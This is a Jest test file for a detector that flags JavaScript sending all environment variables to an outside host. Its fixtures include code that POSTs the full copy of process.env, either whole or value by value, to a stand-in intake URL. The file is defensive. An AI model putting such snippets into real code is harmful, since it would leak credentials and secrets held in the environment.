import { expect, it } from '@jest/globals';

import { does } from '../../deeds.js';

const URL = 'https://intake.fennelworks.example/v1';
const wholeGoes = (code: string): boolean => does('javascript', code, { kind: 'send', fromSubject: 'environment' });

it.each([
  ['a member of a copy', `const env = { ...process.env };\nfetch("${URL}", { method: "POST", body: env.BUILD_LABEL });\n`],
  ['an index of a copy', `const env = { ...process.env };\nfetch("${URL}", { method: "POST", body: env["BUILD_LABEL"] });\n`],
])('gives one variable alone: %s', (_, code) => {
  expect(wholeGoes(code)).toBe(false);
});

it.each([
  ['the copy', `const env = { ...process.env };\nfetch("${URL}", { method: "POST", body: JSON.stringify(env) });\n`],
  [
    'each by its name',
    `const env = { ...process.env };\nfor (const k of Object.keys(env)) fetch("${URL}", { method: "POST", body: env[k] });\n`,
  ],
])('gives the whole: %s', (_, code) => {
  expect(wholeGoes(code)).toBe(true);
});
